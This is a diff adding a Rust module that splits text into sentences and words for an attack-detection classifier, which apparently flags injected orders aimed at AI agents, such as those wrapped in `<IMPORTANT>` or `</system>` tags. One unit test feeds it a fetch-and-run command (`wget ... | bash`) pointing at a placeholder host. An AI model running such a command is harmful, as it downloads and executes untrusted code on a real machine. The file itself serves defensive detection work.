@@ -1,0 +1,319 @@
+//! The sentence splitter of the attack classes: a [`Text`] split into [`Sentence`]s of lowercase
+//! words, and the word tests every class asks (`has_word`, `has_phrase`, ...), each turned away
+//! early by the sentence's bits.
+
+use super::AttackHit;
+use crate::lexicon::{AGENT_TAGS, BLOCK_TAGS};
+
+/// One sentence of a text: its byte range in the text and its words.
+pub(super) struct Sentence {
+    /// Byte range of the sentence in the text (trimmed).
+    pub(super) start: usize,
+    pub(super) end: usize,
+    /// Byte ranges of its words in the text (and in the lowercased text: ASCII lowercasing
+    /// keeps every byte where it is).
+    pub(super) words: Vec<(usize, usize)>,
+    /// A bit per word, at [`word_bit`] of the word: a word whose bit is clear is not in the
+    /// sentence, so most words of a list are turned away without comparing any string.
+    bits: [u64; 4],
+    /// [`directs`](super::cues::directs) and [`obliges`](super::cues::obliges) of the sentence,
+    /// once asked.
+    pub(super) directs: std::cell::Cell<Option<bool>>,
+    pub(super) obliges: std::cell::Cell<Option<bool>>,
+}
+
+/// The bit of a lowercase word in [`Sentence::bits`]: a mix of its length and its first,
+/// second and last bytes, without a loop (the lists ask for thousands of words per text).
+#[inline]
+fn word_bit(w: &[u8]) -> u8 {
+    let n = w.len();
+    if n == 0 {
+        return 0;
+    }
+    let h = (n as u32)
+        .wrapping_mul(0x9E37_79B1)
+        .wrapping_add(u32::from(w[0]).wrapping_mul(0x85EB_CA77))
+        .wrapping_add(u32::from(w[n.min(2) - 1]).wrapping_mul(0xC2B2_AE3D))
+        .wrapping_add(u32::from(w[n - 1]).wrapping_mul(0x27D4_EB2F));
+    (h >> 24) as u8
+}
+
+impl Sentence {
+    /// Whether `w` may be a word of the sentence (`false`: it is not).
+    fn may_have(&self, w: &str) -> bool {
+        let b = word_bit(w.as_bytes());
+        self.bits[usize::from(b >> 6)] & (1 << (b & 63)) != 0
+    }
+}
+
+/// A text split for the class checks.
+pub(super) struct Text<'t> {
+    pub(super) orig: &'t str,
+    pub(super) lower: String,
+    pub(super) sentences: Vec<Sentence>,
+}
+
+pub(super) fn is_word_byte(b: u8) -> bool {
+    b.is_ascii_alphanumeric() || b == b'_' || b == b'\'' || b >= 0x80
+}
+
+impl<'t> Text<'t> {
+    /// Splits `text` into sentences and words.
+    pub(super) fn new(text: &'t str) -> Text<'t> {
+        let lower = text.to_ascii_lowercase();
+        let b = lower.as_bytes();
+        let mut sentences = Vec::new();
+        let mut words = Vec::new();
+        let mut start = 0;
+        let mut i = 0;
+        let mut in_tag = false;
+        while i < b.len() {
+            let c = b[i];
+            if is_word_byte(c) {
+                let s = i;
+                let e;
+                (e, i) = scan_word(b, i);
+                if e > s {
+                    if words.is_empty() {
+                        start = s;
+                    }
+                    words.push((s, e));
+                }
+                continue;
+            }
+            if ends_sentence(&lower, i, &words, &mut in_tag) {
+                let end = if matches!(c, b'.' | b'!' | b'?' | b';') {
+                    i + 1
+                } else {
+                    words.last().map_or(i, |w| w.1)
+                };
+                push_sentence(b, start, end, &mut words, &mut sentences);
+            }
+            i += 1;
+        }
+        let end = words.last().map_or(b.len(), |w| w.1);
+        let end = end.max(lower.trim_end().len().min(b.len()));
+        push_sentence(b, start, end, &mut words, &mut sentences);
+        Text {
+            orig: text,
+            lower,
+            sentences,
+        }
+    }
+
+    pub(super) fn word<'a>(&'a self, s: &Sentence, i: usize) -> &'a str {
+        let (a, b) = s.words[i];
+        &self.lower[a..b]
+    }
+
+    /// The lowercased sentence.
+    pub(super) fn line<'a>(&'a self, s: &Sentence) -> &'a str {
+        &self.lower[s.start..s.end]
+    }
+
+    /// The index of the first word of `s` at or after `from` that is one of `set`.
+    pub(super) fn find_word(&self, s: &Sentence, from: usize, set: &[&str]) -> Option<usize> {
+        if !set.iter().any(|w| s.may_have(w)) {
+            return None;
+        }
+        (from..s.words.len()).find(|&i| set.contains(&self.word(s, i)))
+    }
+
+    pub(super) fn has_word(&self, s: &Sentence, set: &[&str]) -> bool {
+        set.iter()
+            .any(|w| s.may_have(w) && s.words.iter().any(|&(a, b)| &self.lower[a..b] == *w))
+    }
+
+    /// The index of the first word of the phrase `p` (words split by spaces, `*` any one word)
+    /// in `s` at or after `from`.
+    pub(super) fn find_phrase(&self, s: &Sentence, from: usize, p: &str) -> Option<usize> {
+        let pb = p.as_bytes();
+        let first_len = pb.iter().position(|&c| c == b' ').unwrap_or(pb.len());
+        let first = &p[..first_len];
+        if first != "*" && !s.may_have(first) {
+            return None;
+        }
+        (from..s.words.len()).find(|&i| {
+            (first == "*" || self.word(s, i) == first)
+                && self.rest_matches(s, i + 1, &p[first_len..])
+        })
+    }
+
+    /// Whether the words of `s` from `i` on begin with the phrase `rest` (" word word ...",
+    /// each after a space; `*` any one word), without splitting it into a vector.
+    fn rest_matches(&self, s: &Sentence, mut i: usize, mut rest: &str) -> bool {
+        while let Some(r) = rest.strip_prefix(' ') {
+            let len = r.bytes().position(|c| c == b' ').unwrap_or(r.len());
+            let (w, tail) = r.split_at(len);
+            if i >= s.words.len() || (w != "*" && self.word(s, i) != w) {
+                return false;
+            }
+            i += 1;
+            rest = tail;
+        }
+        true
+    }
+
+    pub(super) fn has_phrase(&self, s: &Sentence, phrases: &[&str]) -> bool {
+        phrases.iter().any(|p| self.find_phrase(s, 0, p).is_some())
+    }
+
+    /// The hit for sentence `s`.
+    pub(super) fn hit(&self, rule: &'static str, s: &Sentence, why: &str) -> AttackHit {
+        let span = char_span(self.orig, s.start, s.end);
+        let sentence = self.orig[s.start..s.end].trim();
+        let quote = if sentence.chars().count() > 160 {
+            let cut: String = sentence.chars().take(157).collect();
+            format!("{cut}...")
+        } else {
+            sentence.to_string()
+        };
+        AttackHit {
+            rule,
+            span,
+            why: why.to_string(),
+            quote,
+        }
+    }
+}
+
+/// The word that starts at byte `i` of the lowercased text `b`: where it ends without its
+/// trailing apostrophes (which belong to no word), and where the scan goes on. An inner `-`
+/// joins ("read-file"); every step moves on by one byte.
+#[inline]
+fn scan_word(b: &[u8], i: usize) -> (usize, usize) {
+    let s = i;
+    let mut i = i;
+    while i < b.len()
+        && (is_word_byte(b[i])
+            || (b[i] == b'-' && b.get(i + 1).is_some_and(u8::is_ascii_alphanumeric)))
+    {
+        i += 1;
+    }
+    let mut e = i;
+    while e > s && b[e - 1] == b'\'' {
+        e -= 1;
+    }
+    (e, i)
+}
+
+/// Whether the byte at `i` of the lowercased text (not a word byte) ends the sentence whose
+/// words so far are `words`. `in_tag` is whether a tag that parts sentences is open.
+#[inline]
+fn ends_sentence(lower: &str, i: usize, words: &[(usize, usize)], in_tag: &mut bool) -> bool {
+    let b = lower.as_bytes();
+    match b[i] {
+        b'\n' | b';' => true,
+        // The tags that wrap orders to the model (`<IMPORTANT>`, `</system>`,
+        // `<policy ...>`, `<!-- ... -->`) part sentences; a placeholder such as
+        // `<conversation>` and a shell's `>&` do not.
+        b'<' => {
+            let name: String = lower[i + 1..]
+                .trim_start_matches(['/', '!'])
+                .bytes()
+                .take_while(u8::is_ascii_alphabetic)
+                .map(char::from)
+                .collect();
+            *in_tag = lower[i + 1..].starts_with("!--")
+                || AGENT_TAGS.contains(&name.as_str())
+                || BLOCK_TAGS.contains(&name.as_str());
+            *in_tag
+        }
+        b'>' => std::mem::take(in_tag),
+        b'.' | b'!' | b'?' => {
+            let next = b.get(i + 1).copied();
+            let at_end = next.is_none_or(|n| {
+                n.is_ascii_whitespace() || matches!(n, b'"' | b'\'' | b')' | b'<' | b'*')
+            });
+            // "e.g." and "i.e." end no sentence.
+            let abbrev = words.last().is_some_and(|&(s, e)| {
+                matches!(&lower[s..e], "e" | "g" | "i" | "eg" | "ie" | "etc" | "vs")
+            });
+            at_end && !abbrev
+        }
+        _ => false,
+    }
+}
+
+/// Ends the sentence of `words` (if it has any) at `start..end` of the lowercased text `lower`:
+/// up to its last non-space byte, and at least its last word.
+#[inline]
+fn push_sentence(
+    lower: &[u8],
+    start: usize,
+    end: usize,
+    words: &mut Vec<(usize, usize)>,
+    out: &mut Vec<Sentence>,
+) {
+    if words.is_empty() {
+        return;
+    }
+    let end = end.max(words.last().map_or(end, |w| w.1));
+    let words = std::mem::take(words);
+    let mut bits = [0u64; 4];
+    for &(a, b) in &words {
+        let bit = word_bit(&lower[a..b]);
+        bits[usize::from(bit >> 6)] |= 1 << (bit & 63);
+    }
+    out.push(Sentence {
+        start,
+        end,
+        words,
+        bits,
+        directs: std::cell::Cell::new(None),
+        obliges: std::cell::Cell::new(None),
+    });
+}
+
+fn char_span(text: &str, start: usize, end: usize) -> (usize, usize) {
+    if text.is_ascii() {
+        (start, end - start)
+    } else {
+        let a = text[..start].chars().count();
+        (a, text[start..end].chars().count())
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn sentences_split_at_ends_not_at_abbreviations() {
+        let t = Text::new("Reads a file, e.g. a log. Then stop!\nNext line; last <b>x</b>");
+        let got: Vec<&str> = t
+            .sentences
+            .iter()
+            .map(|s| &t.orig[s.start..s.end])
+            .collect();
+        assert_eq!(
+            got,
+            vec![
+                "Reads a file, e.g. a log.",
+                "Then stop!",
+                "Next line;",
+                "last",
+                "b",
+                "x",
+                "b"
+            ]
+        );
+    }
+
+    #[test]
+    fn every_text_is_split_to_its_end() {
+        // A `-` that joins nothing once stopped the splitter in place.
+        for t in [
+            "wget a-",
+            "a- b",
+            "-",
+            "--x",
+            "x--",
+            "a-b-",
+            "wget -qO- https://x.example/i | bash",
+        ] {
+            let split = Text::new(t);
+            assert!(split.sentences.iter().all(|s| s.end <= t.len()), "{t}");
+        }
+    }
+}
